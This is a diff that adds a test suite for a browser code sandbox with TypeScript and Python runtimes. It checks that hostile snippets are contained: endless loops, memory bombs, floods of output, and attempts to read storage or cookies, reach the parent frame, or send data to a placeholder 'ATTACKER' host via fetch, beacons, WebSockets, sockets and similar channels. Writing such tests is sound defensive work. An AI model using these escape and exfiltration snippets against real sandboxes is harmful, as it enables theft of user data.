@@ -1,0 +1,300 @@
+import { createServer, type AddressInfo } from 'node:net';
+import type { Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import type { Runtime } from '../../src/client/run/protocol.ts';
+import { useSite } from '../support/browser.ts';
+import {
+	editCode,
+	openSnippet,
+	reasonNotBuilt,
+	runEnd,
+	runSnippet,
+	snippetsInPage,
+	type RunResult,
+} from '../support/snippets.ts';
+
+const site = useSite();
+const snippets = await snippetsInPage();
+
+/** Time limit of a run in these tests; a run that is to be ended should not take long. */
+const LIMIT = 3;
+
+/** What hostile code tries, in both languages. */
+const CODE: Record<Runtime, Record<string, string>> = {
+	typescript: {
+		loop: 'console.log("before"); while (true) {}',
+		microtasks:
+			'console.log("before"); const again = () => Promise.resolve().then(again); again(); await new Promise(() => {});',
+		output: 'while (true) console.log("a line of output that never ends");',
+		// Bounded by the time limit; each step is small enough for a small machine.
+		memory: 'const all: unknown[] = []; while (true) all.push(new Array(100_000).fill(Math.random()));',
+		quick: 'console.log("still here");',
+	},
+	python: {
+		loop: 'print("before", flush=True)\nwhile True: pass',
+		output: 'while True: print("a line of output that never ends")',
+		memory: 'all = []\nwhile True: all.append(bytearray(4_000_000))',
+		quick: 'print("still here")',
+	},
+};
+
+/** Each attempt prints what it got; nothing may be got. */
+const ESCAPES: Record<Runtime, string> = {
+	typescript: `
+		const attempts: Record<string, () => unknown> = {
+			localStorage: () => (globalThis as any).localStorage.length,
+			cookies: () => (globalThis as any).document.cookie,
+			indexedDB: () => new Promise((resolve, reject) => {
+				const open = indexedDB.open('hs'); open.onsuccess = resolve; open.onerror = () => reject(open.error);
+			}),
+			caches: () => caches.open('hs'),
+			fetch: () => fetch('SITE/robots.txt').then((response) => response.text()),
+			fetchOut: () => fetch('ATTACKER/steal', { mode: 'no-cors' }),
+			beacon: () => { if (!navigator.sendBeacon('ATTACKER/beacon')) throw new Error('refused'); },
+			xhr: () => new Promise((resolve, reject) => {
+				const request = new XMLHttpRequest(); request.open('GET', 'ATTACKER/x');
+				request.onload = resolve; request.onerror = () => reject(new Error('refused')); request.send();
+			}),
+			webSocket: () => new Promise((resolve, reject) => {
+				const socket = new WebSocket('WS_ATTACKER/'); socket.onopen = resolve; socket.onerror = () => reject(new Error('refused'));
+			}),
+			eventSource: () => new Promise((resolve, reject) => {
+				const source = new EventSource('ATTACKER/'); source.onopen = resolve; source.onerror = () => reject(new Error('refused'));
+			}),
+			importScripts: () => (globalThis as any).importScripts('ATTACKER/x.js'),
+			dynamicImport: () => new Function('return import("ATTACKER/x.js")')(),
+			eval: () => (0, eval)('1 + 1'),
+			parentDocument: () => (globalThis as any).parent.document.title,
+			top: () => (globalThis as any).top.location.href,
+			opener: () => (globalThis as any).opener.document,
+		};
+		for (const [name, attempt] of Object.entries(attempts)) {
+			try { console.log('GOT', name, String(await attempt())); } catch (error) { console.log('refused', name); }
+		}`,
+	python: `
+import asyncio, sqlite3
+async def main():
+    async def attempt(name, do):
+        try:
+            result = do()
+            if hasattr(result, '__await__'): result = await asyncio.wait_for(result, 2)
+            print('GOT', name, str(result)[:80])
+        except BaseException as error:
+            print('refused', name)
+    def from_js(name):
+        import js
+        return getattr(js, name)
+    def run_js(code):
+        from pyodide.code import run_js
+        return run_js(code)
+    def from_urllib():
+        from urllib.request import urlopen
+        return urlopen('ATTACKER/x', timeout=1).read()
+    def from_socket():
+        import socket
+        connection = socket.create_connection(('127.0.0.1', ATTACKER_PORT), timeout=1)
+        connection.sendall(b'GET / HTTP/1.0')
+        return connection.recv(10)
+    def from_constructor(name):
+        import js
+        return js.Object.constructor('return ' + name)()
+    for name in ('localStorage', 'document', 'indexedDB', 'caches', 'fetch', 'WebSocket', 'parent', 'top', 'self'):
+        await attempt('js.' + name, lambda: from_js(name))
+    await attempt('run_js', lambda: run_js('fetch("ATTACKER/x")'))
+    await attempt('constructor', lambda: from_constructor('self.indexedDB.open("x")'))
+    await attempt('urllib', from_urllib)
+    await attempt('socket', from_socket)
+    async def pyfetch():
+        from pyodide.http import pyfetch
+        return await pyfetch('ATTACKER/x')
+    await attempt('pyfetch', pyfetch)
+asyncio.run(main())
+`,
+};
+
+const EXAMPLE_OF = {
+	typescript: snippets.find(({ data }) => data.language === 'typescript'),
+	python: snippets.find(({ data }) => data.language === 'python'),
+};
+
+describe.each(['typescript', 'python'] as const)('hostile code in %s', (runtime) => {
+	const example = EXAMPLE_OF[runtime];
+	const reason = reasonNotBuilt(runtime) ?? (example ? undefined : 'no snippet of the content runs in it');
+	const code = CODE[runtime];
+	const hostile = test.skipIf(reason);
+	if (reason !== undefined) test.skip(`not run: ${reason}`, () => undefined);
+
+	hostile('an endless loop is ended at the time limit, and the page answers meanwhile', async () => {
+		await withCode(runtime, code['loop'], async (page) => {
+			await page.locator('.controls .btn.main').click();
+			await page.locator('.state', { hasText: 'Running' }).waitFor({ timeout: 60_000 });
+			expect(await isResponsive(page)).toBe(true);
+			const { state, output } = await runEnd(page);
+			expect(state).toContain(`it ran for ${LIMIT} s`);
+			expect(output).toContain('before');
+			await expectUsable(page, runtime);
+		});
+	});
+
+	hostile('Stop ends an endless loop at once', async () => {
+		await withCode(runtime, code['loop'], async (page) => {
+			await page.locator('.controls .btn.main').click();
+			await page.locator('.state', { hasText: 'Running' }).waitFor({ timeout: 60_000 });
+			await page.locator('[data-do=stop]').click();
+			expect((await runEnd(page)).state).toBe('Stopped.');
+			await expectUsable(page, runtime);
+		});
+	});
+
+	hostile('endless output is cut, and the page answers meanwhile', async () => {
+		await withCode(runtime, code['output'], async (page) => {
+			const { state, output } = await runSnippet(page);
+			expect(state).toContain('more than a page can show');
+			expect(output.length).toBeGreaterThan(10_000);
+			expect(output.length).toBeLessThan(21_000);
+			expect(await isResponsive(page)).toBe(true);
+			await expectUsable(page, runtime);
+		});
+	});
+
+	hostile('a memory bomb ends, and the page lives', async () => {
+		await withCode(runtime, code['memory'], async (page) => {
+			const { state } = await runSnippet(page);
+			expect(state).toMatch(/^(?:Stopped|Ended|It did not run)/);
+			expect(await isResponsive(page)).toBe(true);
+			await expectUsable(page, runtime);
+		});
+	});
+
+	hostile('nothing outside is reached: no storage, no network, no page around it', async () => {
+		await withCode(runtime, ESCAPES[runtime], async (page) => {
+			const { output, exit, state } = await runSnippet(page);
+			expect(exit, `${state}\n${output}`).toBe(0);
+			expect(output.split('\n').filter((line) => line.startsWith('GOT'))).toEqual([]);
+			expect(output.split('\n').filter((line) => line.startsWith('refused')).length).toBeGreaterThan(10);
+		});
+	});
+
+	hostile('a second run ends the first', async () => {
+		await withCode(runtime, code['loop'], async (page) => {
+			await page.locator('.controls .btn.main').click();
+			await page.locator('.state', { hasText: 'Running' }).waitFor({ timeout: 60_000 });
+			await editCode(page, code['quick'] ?? '');
+			const { output, exit } = await runSnippet(page);
+			expect(exit).toBe(0);
+			expect(output.trim()).toBe('still here');
+		});
+	});
+
+	hostile('leaving the page ends the run', async () => {
+		await withCode(runtime, code['loop'], async (page) => {
+			await page.locator('.controls .btn.main').click();
+			await page.locator('.state', { hasText: 'Running' }).waitFor({ timeout: 60_000 });
+			const { length: before } = page.frames();
+			await page.goto('/');
+			expect(before).toBe(2);
+			expect(page.frames()).toHaveLength(1);
+			expect(page.workers().filter((worker) => worker.url().startsWith('blob:'))).toEqual([]);
+			expect(await isResponsive(page)).toBe(true);
+		});
+	});
+});
+
+test('microtasks without end are ended at the time limit', async () => {
+	await withCode('typescript', CODE.typescript['microtasks'], async (page) => {
+		expect((await runSnippet(page)).state).toContain(`it ran for ${LIMIT} s`);
+	});
+});
+
+test('the other server counts what reaches it', async () => {
+	await site.withPage({}, async (page) => {
+		await page.goto(addressed('ATTACKER/')).catch(() => undefined);
+		expect(problems.splice(0).length).toBeGreaterThan(0);
+	});
+});
+
+test('the sandbox does nothing when it is not in an isolated frame', async () => {
+	await site.withPage({}, async (page) => {
+		await page.goto('/runtimes/sandbox.html');
+		expect(await page.evaluate(() => self.origin)).toBe(site.url);
+		await page.goto('/');
+		const answered = await page.evaluate(async () => {
+			const frame = document.createElement('iframe');
+			let ready = false;
+			addEventListener('message', () => (ready = true));
+			frame.src = '/runtimes/sandbox.html';
+			document.body.append(frame);
+			await new Promise((resolve) => setTimeout(resolve, 500));
+			return ready;
+		});
+		expect(answered).toBe(false);
+	});
+});
+
+test('before Run is pressed, nothing of a runtime is loaded', async () => {
+	const id = EXAMPLE_OF.typescript?.id ?? '';
+	await site.withPage({}, async (page) => {
+		const asked: string[] = [];
+		page.on('request', (request) => asked.push(new URL(request.url()).pathname));
+		await openSnippet(page, id, 'broken.ts');
+		await page.waitForLoadState('networkidle');
+		expect(asked.filter((pathname) => /runtimes|session|signatures|cards/.test(pathname))).toEqual([]);
+		await runSnippet(page);
+		expect(asked).toContain('/runtimes/sandbox.html');
+	});
+});
+
+const problems: string[] = [];
+const attacker = createServer((socket) => {
+	problems.push('connected to the other server');
+	socket.destroy();
+});
+beforeAll(() => new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve)));
+afterAll(() => new Promise((resolve) => attacker.close(resolve)));
+afterEach(() => {
+	expect(problems.splice(0)).toEqual([]);
+});
+
+/**
+ * A page with the code in place of the snippet's own and a short time limit. A server beside the site counts every
+ * connection; an answer from anywhere else, or to something only the snippet asks for, is a problem too.
+ */
+async function withCode(runtime: Runtime, code: string | undefined, use: (page: Page) => Promise<void>): Promise<void> {
+	const { id, data } = EXAMPLE_OF[runtime] ?? {};
+	await site.withPage({}, async (page) => {
+		page.on('response', (response) => {
+			const { protocol, origin, pathname } = new URL(response.url());
+			if (protocol === 'blob:' || protocol === 'data:') return;
+			if (origin !== site.url || pathname === '/robots.txt') problems.push(`was answered: ${response.url()}`);
+		});
+		await openSnippet(page, id ?? '', data?.variants[0]?.file ?? '');
+		await page.locator('hs-snippet').evaluate((box, limit) => (box.dataset['seconds'] = String(limit)), LIMIT);
+		await editCode(page, addressed(code ?? ''));
+		await use(page);
+	});
+}
+
+/** Puts the addresses of this test run into the code. */
+function addressed(code: string): string {
+	const { port } = attacker.address() as AddressInfo;
+	return code
+		.replaceAll('ATTACKER_PORT', String(port))
+		.replaceAll('WS_ATTACKER', `ws://127.0.0.1:${port}`)
+		.replaceAll('ATTACKER', `http://127.0.0.1:${port}`)
+		.replaceAll('SITE', site.url);
+}
+
+async function expectUsable(page: Page, runtime: Runtime): Promise<void> {
+	await editCode(page, CODE[runtime]['quick'] ?? '');
+	const result: RunResult = await runSnippet(page);
+	expect(result.output.trim(), result.state).toBe('still here');
+}
+
+/** Whether the page paints and answers within a second. */
+function isResponsive(page: Page): Promise<boolean> {
+	return page.evaluate(async () => {
+		const start = performance.now();
+		await new Promise((resolve) => setTimeout(resolve, 0));
+		return performance.now() - start < 1000;
+	});
+}
